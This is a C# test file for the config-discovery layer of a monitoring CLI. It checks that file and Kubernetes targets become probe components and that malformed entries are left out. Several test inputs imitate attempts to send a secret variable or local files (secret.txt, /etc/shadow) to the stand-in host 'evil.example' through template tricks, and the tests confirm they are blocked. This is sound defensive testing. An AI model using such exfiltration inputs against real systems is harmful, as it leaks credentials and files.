using System.Collections.Concurrent;
using Nines.Cli.Config;
using Nines.Cli.Discovery;
using Nines.Testing;
using NodaTime;

namespace Nines.Cli.Tests.Discovery;

/// <summary>Files and API answers become components, and what goes wrong with them changes nothing but what is said.</summary>
public sealed class EffectiveConfigTests : IDisposable
{
    private static readonly ConfigSurroundings Surroundings = new() { Environment = name => name switch { "HOME" => "/home/ops", "X" => "leaked", _ => null } };

    private readonly string folder = Directory.CreateTempSubdirectory("nines-discover-").FullName;
    private readonly ManualTimeProvider time = new();
    private readonly ConcurrentQueue<string> said = new();
    private EffectiveConfig? effective;

    public void Dispose()
    {
        effective?.Dispose();
        Directory.Delete(folder, recursive: true);
    }

    private string Write(string name, string text)
    {
        var path = Path.Combine(folder, name);
        File.WriteAllText(path, text);
        return path;
    }

    private const string Shops = """
        discover:
          - name: shops
            files: ["*.json"]
            every: 10s
            template:
              name: "shop-{{host}}"
              kind: dapp
              labels: {from: "{{label.team}}"}
              probes:
                - http: "https://{{target}}/health"

        """;

    private static string Group(string team, params string[] targets) => $$$"""[{"targets": [{{{string.Join(", ", targets.Select(target => $"\"{target}\""))}}}], "labels": {"team": "{{{team}}}"}}]""";

    private async Task<ConfigReading> ReadAsync(string yaml)
    {
        effective = new EffectiveConfig(Write("nines.yaml", yaml), Surroundings, time, said.Enqueue);
        return await effective.ReadAsync(TestContext.Current.CancellationToken);
    }

    private async Task<ConfigReading.Loaded> LoadedAsync(string yaml) => Assert.IsType<ConfigReading.Loaded>(await ReadAsync(yaml));

    private static string[] Names(ConfigReading.Loaded loaded) => [.. loaded.Config.Topology.Components.Select(component => component.Id.Value)];

    private string[] LeftOut(ConfigReading.Loaded loaded) => [.. loaded.LeftOut.Select(mistake => mistake.ToString().Replace(folder + "/", "", StringComparison.Ordinal))];

    /// <summary>Waiting for its next turn, and for nobody's answer: only then may time pass.</summary>
    private bool IsIdle => time.NextDue <= TimeSpan.FromSeconds(1);

    /// <summary>Lets virtual time pass in steps of a second until the next config is there.</summary>
    private async Task<ConfigReading.Loaded> NextAsync()
    {
        var next = effective!.NextAsync(TestContext.Current.CancellationToken);
        await Patience.UntilAsync("the next config", () =>
        {
            while (IsIdle && !next.IsCompleted) time.Advance(TimeSpan.FromSeconds(1));
            return next.IsCompleted;
        }, pause: TimeSpan.FromMilliseconds(1), cancellation: TestContext.Current.CancellationToken);
        return await next;
    }

    /// <summary>Lets virtual time pass, and is sure that no other config came of it.</summary>
    private async Task NothingFollowsAsync(int seconds)
    {
        using var enough = new CancellationTokenSource();
        var next = effective!.NextAsync(enough.Token);
        for (var second = 0; second < seconds && !next.IsCompleted;)
        {
            if (IsIdle)
            {
                time.Advance(TimeSpan.FromSeconds(1));
                second++;
            }
            else await Task.Delay(TimeSpan.FromMilliseconds(1), TimeProvider.System, TestContext.Current.CancellationToken);
        }
        Assert.False(next.IsCompleted);
        await enough.CancelAsync();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => next);
    }

    [Fact]
    public async Task What_was_discovered_before_a_reload_is_known_to_be_older_than_it()
    {
        Write("a.json", Group("core", "a.example"));
        await LoadedAsync(Shops);
        Write("a.json", Group("core", "a.example", "b.example"));
        var discovered = await NextAsync();
        Assert.True(effective!.IsLast(discovered));
        var reloaded = Assert.IsType<ConfigReading.Loaded>(await effective.ReadAsync(TestContext.Current.CancellationToken));
        Assert.Equal((false, true), (effective.IsLast(discovered), effective.IsLast(reloaded)));
    }

    [Fact]
    public async Task Targets_of_files_become_components_by_the_template_with_their_labels()
    {
        Write("b.json", Group("payments", "a.example:8443", "b.example"));
        Write("a.json", Group("core", "c.example"));
        var loaded = await LoadedAsync(Shops + "components:\n  - {name: all, kind: dapp, needs: [shop-a.example, shop-c.example]}\n");
        Assert.Equal(["all", "shop-c.example", "shop-a.example", "shop-b.example"], Names(loaded));
        var shop = loaded.Config.Topology.Components[2];
        Assert.Equal(("payments", "payments"), (shop.Labels["from"], shop.Labels["team"]));
        Assert.Equal("https://a.example:8443/health", Assert.IsType<Probing.Http.HttpOptions>(shop.Probes[0].Options).Url.OriginalString);
        Assert.Empty(loaded.LeftOut);
    }

    [Fact]
    public async Task Yaml_files_are_read_like_json_ones()
    {
        Write("t.yml", "- targets: [x.example]\n  labels: {team: core}\n");
        Assert.Equal(["shop-x.example"], Names(await LoadedAsync(Shops.Replace("*.json", "*.yml", StringComparison.Ordinal))));
    }

    [Fact]
    public async Task What_cannot_be_used_is_left_out_with_its_place_and_the_rest_is_watched()
    {
        Write("t.json", """
            [
              {"targets": ["a.example"], "labels": {"team": "x"}},
              {"targets": ["A.example"], "labels": {"team": "x"}},
              {"targets": ["nobody.example"]},
              {"targets": ["not a url%"], "labels": {"team": "x"}},
              {"targets": [["b.example"], "c.example"], "labels": {"team": "x", "odd": {}}},
              "d.example"
            ]
            """);
        var loaded = await LoadedAsync(Shops);
        Assert.Equal(["shop-a.example", "shop-c.example"], Names(loaded));
        Assert.Equal(
        [
            "t.json:6:16 [4].targets[0]: This is left out: a target is one text of 1 to 1000 characters.",
            "t.json:6:76 [4].labels.odd: This label is left out: its value is one text of at most 1000 characters.",
            "t.json:7:3 [5]: This is left out: a group has targets, a list, and may have labels.",
            "t.json:3:16 shops: The name 'shop-a.example' is taken by t.json:2; this target is left out. Make the template's name tell them apart.",
            "t.json:4:16 shops: This target is left out: it has no label.team. It has host, target.",
            "t.json:5:16 shops: This target is left out: it has no host. It has label.team, target.",
        ], LeftOut(loaded));
    }

    [Fact]
    public async Task A_component_that_only_the_whole_config_shows_to_be_wrong_is_left_out_too()
    {
        Write("t.json", Group("x", "a.example", "b.example"));
        var loaded = await LoadedAsync(Shops.Replace("kind: dapp", "kind: \"{{label.team}}\"", StringComparison.Ordinal) + "components:\n  - {name: own, kind: dapp, probes: [{tcp: \"a.example:1\"}]}\n");
        Assert.Equal(["own"], Names(loaded));
        Assert.Equal(2, loaded.LeftOut.Length);
        Assert.All(loaded.LeftOut, mistake => Assert.Equal(MistakeCode.WrongType, mistake.Code));
    }

    [Fact]
    public async Task A_value_of_a_target_stays_text()
    {
        Write("t.json", Group("${X} \\\"] else up", "a.example/${X}"));
        var loaded = await LoadedAsync(Shops.Replace("shop-{{host}}", "s", StringComparison.Ordinal));
        Assert.Equal("https://a.example/${X}/health", Assert.IsType<Probing.Http.HttpOptions>(loaded.Config.Topology.Components[0].Probes[0].Options).Url.OriginalString);
        Assert.Equal("${X} \"] else up", loaded.Config.Topology.Components[0].Labels["team"]);
        Assert.DoesNotContain("leaked", loaded.Config.Json, StringComparison.Ordinal);
    }

    /// <summary>X is a variable of ours that holds a secret; whoever writes targets must not get it sent to himself.</summary>
    [Theory]
    [InlineData("http: 'https://evil.example/${X}'")]
    [InlineData("http: 'https://evil.example/$${X}'")]
    [InlineData("http: 'https://evil.example/$$${X}'")]
    [InlineData("http: 'https://evil.example/${{annotation.rest}}'")]
    [InlineData("http: 'https://evil.example/${{annotation.empty}}{X}'")]
    [InlineData("http: 'https://evil.example/{{annotation.dollar}}{{annotation.rest}}'")]
    [InlineData("http: 'https://evil.example/$${{annotation.rest}}'")]
    [InlineData("{http: 'https://evil.example/', headers: {a: '${X}'}}")]
    [InlineData("{journey: a, steps: [{name: one, url: 'https://evil.example/', body: '${X}'}]}")]
    [InlineData("{journey: a, steps: [{name: one, url: 'https://evil.example/', body_file: secret.txt}]}")]
    [InlineData("{journey: a, steps: [{name: one, url: 'https://evil.example/', json_file: secret.txt}]}")]
    public async Task Who_may_annotate_an_object_gets_neither_variables_nor_files_of_this_machine(string probe)
    {
        Write("secret.txt", "leaked");
        var annotations = new Dictionary<string, string> { ["nines.dev/probe"] = probe.Replace("secret.txt", Path.Combine(folder, "secret.txt"), StringComparison.Ordinal), ["rest"] = "{X}", ["dollar"] = "$", ["empty"] = "" };
        var item = new { kind = "Service", metadata = new { name = "thief", annotations }, spec = new { } };
        Write("objects.json", System.Text.Json.JsonSerializer.Serialize(new { kind = "List", items = new[] { item } }));
        var loaded = await LoadedAsync("discover: [{name: cluster, kubernetes: objects.json}]\n");
        var texts = loaded.Config.Topology.Components.SelectMany(component => component.Probes).Select(each => each.Options switch
        {
            Probing.Http.HttpOptions http => $"{http.Url.OriginalString} {string.Join(' ', http.Headers.Values)}",
            Probing.Journeys.JourneyOptions journey => $"{journey.Steps[0].Body} {journey.Steps[0].Json}",
            var other => other.ToString()!,
        });
        Assert.DoesNotContain("leaked", string.Join(' ', texts), StringComparison.Ordinal);
        Assert.Equal(probe.Contains("_file", StringComparison.Ordinal) ? 1 : 0, loaded.LeftOut.Length);
    }

    [Fact]
    public async Task A_changed_file_makes_the_next_config_and_an_unchanged_one_none()
    {
        Write("t.json", Group("x", "a.example"));
        Assert.Equal(["shop-a.example"], Names(await LoadedAsync(Shops)));
        await NothingFollowsAsync(25);
        Write("t.json", Group("x", "a.example", "b.example"));
        Assert.Equal(["shop-a.example", "shop-b.example"], Names(await NextAsync()));
        Write("t2.json", Group("x", "c.example"));
        Assert.Equal(3, Names(await NextAsync()).Length);
        Assert.Contains(said, line => line.Contains("2 targets, 1 before", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(null, "no such file")]
    [InlineData("", "is empty")]
    [InlineData("[{\"targets\": [\"a", "not JSON")]
    [InlineData("{\"a\": 1}", "expected a list")]
    public async Task A_file_that_vanishes_or_breaks_changes_nothing_but_what_is_said(string? then, string words)
    {
        Write("t.json", Group("x", "a.example"));
        await LoadedAsync(Shops);
        if (then is null) File.Delete(Path.Combine(folder, "t.json"));
        else Write("t.json", then);
        await NothingFollowsAsync(25);
        var line = Assert.Single(said);
        Assert.Contains(words, line, StringComparison.Ordinal);
        Assert.Contains("The 1 targets of ", line, StringComparison.Ordinal);
        Write("t.json", Group("x", "a.example", "b.example"));
        Assert.Equal(2, Names(await NextAsync()).Length);
        Assert.Contains(said, said => said.Contains("can be read again", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_reload_forgets_files_that_are_gone()
    {
        Write("t.json", Group("x", "a.example"));
        var gone = Write("u.json", Group("x", "b.example"));
        await LoadedAsync(Shops);
        File.Delete(gone);
        Assert.Equal(["shop-a.example"], Names(Assert.IsType<ConfigReading.Loaded>(await effective!.ReadAsync(TestContext.Current.CancellationToken))));
    }

    [Fact]
    public async Task An_api_server_is_asked_page_by_page_with_the_token()
    {
        File.WriteAllText(Path.Combine(folder, "token"), "s3cret-token-of-the-cluster\n");
        await using var api = new ApiServer { Token = "s3cret-token-of-the-cluster", Count = 1_200 };
        var loaded = await LoadedAsync(Cluster(api));
        Assert.Equal((1_200, "shop-web-0"), (loaded.Config.Topology.Components.Length, Names(loaded).Order(StringComparer.Ordinal).First()));
        Assert.Equal(3, api.Asked);
        // Renewed in place, as a cluster does it.
        api.Token = "another-token-of-the-cluster";
        File.WriteAllText(Path.Combine(folder, "token"), "another-token-of-the-cluster\n");
        api.Count = 1_201;
        Assert.Equal(1_201, Names(await NextAsync()).Length);
    }

    [Fact]
    public async Task An_api_server_that_refuses_says_why_and_leaves_what_was_known()
    {
        File.WriteAllText(Path.Combine(folder, "token"), "wrong-token-for-this-one");
        await using var api = new ApiServer { Token = "right", Count = 3 };
        var loaded = await LoadedAsync(Cluster(api) + "components:\n  - {name: own, kind: dapp, probes: [{tcp: \"a.example:1\"}]}\n");
        Assert.Equal(["own"], Names(loaded));
        Assert.Contains("403", Assert.Single(loaded.Notes), StringComparison.Ordinal);
        Assert.DoesNotContain("wrong-token", string.Join('\n', said), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task An_api_server_with_a_root_of_its_own_is_trusted_by_its_file_only(bool named)
    {
        await using var api = new TlsApiServer(folder);
        var loaded = await LoadedAsync($"discover: [{{name: c, kubernetes: '{api.Url}'{(named ? ", ca_file: ca.pem" : "")}, template: {{probes: [{{tcp: 'a:1'}}]}}}}]\n");
        Assert.Equal(named ? ["shop-web"] : [], Names(loaded));
        Assert.Equal(named ? 0 : 1, loaded.Notes.Length);
    }

    [Fact]
    public async Task A_list_that_collapses_is_believed_only_when_it_stays_so()
    {
        File.WriteAllText(Path.Combine(folder, "token"), "right");
        await using var api = new ApiServer { Token = "right", Count = 2_000 };
        Assert.Equal(2_000, (await LoadedAsync(Cluster(api))).Config.Topology.Components.Length);
        api.Count = 0;
        var began = time.GetUtcNow();
        var next = await NextAsync();
        Assert.Empty(next.Config.Topology.Components);
        Assert.True(time.GetUtcNow() - began >= TimeSpan.FromMinutes(20), $"believed after {time.GetUtcNow() - began}");
        Assert.Contains(said, line => line.Contains("0 targets where there were 2000: not believed before it has been so for 20m", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Objects_say_by_annotations_what_they_are_and_how_they_are_looked_at()
    {
        Write("objects.json", """
            {"kind": "List", "items": [
              {"kind": "Service", "metadata": {"name": "web", "namespace": "shop", "annotations": {"nines.dev/probe": "http: http://{{target}}/health", "nines.dev/kind": "dapp"}}, "spec": {"ports": [{"port": 8080}]}},
              {"kind": "Service", "metadata": {"name": "db", "namespace": "shop"}, "spec": {"ports": [{"port": 5432}]}},
              {"kind": "Ingress", "metadata": {"name": "front", "namespace": "shop", "annotations": {"nines.dev/name": "{{host}}", "nines.dev/probe.page": "{http: '{{scheme}}://{{host}}/', every: 10s}", "nines.dev/probe.port": "{tcp: '{{host}}:443'}"}},
               "spec": {"tls": [{"hosts": ["a.example"]}], "rules": [{"host": "a.example"}, {"host": "b.example"}]}},
              {"kind": "Endpoints", "metadata": {"name": "web", "namespace": "shop", "annotations": {"nines.dev/probe": "tcp: '{{target}}'", "nines.dev/name": "{{host}}"}}, "subsets": [{"addresses": [{"ip": "10.0.0.1"}, {"ip": "fd00::1"}], "notReadyAddresses": [{"ip": "10.0.0.9"}], "ports": [{"port": 80}]}]},
              {"kind": "Pod", "metadata": {"name": "p1", "annotations": {"nines.dev/probe": "tcp: '{{target}}'"}}, "spec": {"containers": [{"ports": [{"containerPort": 9000}]}]}, "status": {"phase": "Running", "podIP": "10.0.0.3"}},
              {"kind": "Pod", "metadata": {"name": "p2", "annotations": {"nines.dev/probe": "tcp: '{{target}}'"}}, "spec": {}, "status": {"phase": "Pending"}},
              {"kind": "Service", "metadata": {"name": "off", "annotations": {"nines.dev/ignore": "true", "nines.dev/probe": "tcp: a:1"}}, "spec": {}},
              {"kind": "Service", "metadata": {"name": "thief", "annotations": {"nines.dev/probe": "{heartbeat_file: /etc/shadow}"}}, "spec": {}},
              {"kind": "Service", "metadata": {"name": "odd", "annotations": {"nines.dev/probe": "- a"}}, "spec": {}},
              {"kind": "Service", "metadata": {"name": "typo", "annotations": {"nines.dev/prob": "http: x"}}, "spec": {}}
            ]}
            """);
        var loaded = await LoadedAsync("discover: [{name: cluster, kubernetes: objects.json}]\n");
        Assert.Equal(["shop-web", "a.example", "b.example", "10.0.0.1", "fd00--1", "default-p1"], Names(loaded).Select(name => name == "fd00-1" ? "fd00--1" : name));
        string Target(string name) => loaded.Config.Topology.Components.Single(component => component.Id.Value == name).Probes[0].Options switch
        {
            Probing.Http.HttpOptions http => http.Url.OriginalString,
            Probing.Tcp.TcpOptions tcp => tcp.Target,
            _ => "",
        };
        Assert.Equal(("http://web.shop.svc:8080/health", "https://a.example/", "http://b.example/", "10.0.0.3:9000"), (Target("shop-web"), Target("a.example"), Target("b.example"), Target("default-p1")));
        Assert.Equal(["default/odd", "default/thief", "default/typo"], loaded.LeftOut.Select(mistake => mistake.File.Split(' ')[^1]).Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("discover: [{name: a}]\n", "exactly one of files and kubernetes")]
    [InlineData("discover: [{name: a, files: [x], kubernetes: y}]\n", "exactly one of files and kubernetes")]
    [InlineData("discover: [{name: a, files: [x]}]\n", "'template' is missing")]
    [InlineData("discover: [{name: a, files: [x], template: {nam: b}}]\n", "Did you mean 'name'?")]
    [InlineData("discover: [{name: a, kubernetes: x}, {name: a, kubernetes: y}]\n", "There is another source 'a'")]
    [InlineData("discover: [{name: a, kubernetes: 'ftp://x/'}]\n", "begins with https:// or http://")]
    [InlineData("discover: [{name: a, kubernetes: x, token: abcdef}]\n", "Only an API")]
    [InlineData("policy: strict\n", "'components' is missing")]
    public async Task A_source_with_a_mistake_is_refused_with_the_rest_of_the_config(string yaml, string said) =>
        Assert.Contains(Assert.IsType<ConfigReading.Refused>(await ReadAsync(yaml)).Mistakes, mistake => mistake.Message.Contains(said, StringComparison.Ordinal));

    private static string Cluster(ApiServer api) => $$$"""
        discover:
          - name: cluster
            kubernetes: {{{api.Url}}}api/v1/services?labelSelector=a
            token_file: token
            every: 1m
            believe_empty_after: 20m
            template:
              probes:
                - http: "{{scheme}}://{{target}}/health"

        """;
}
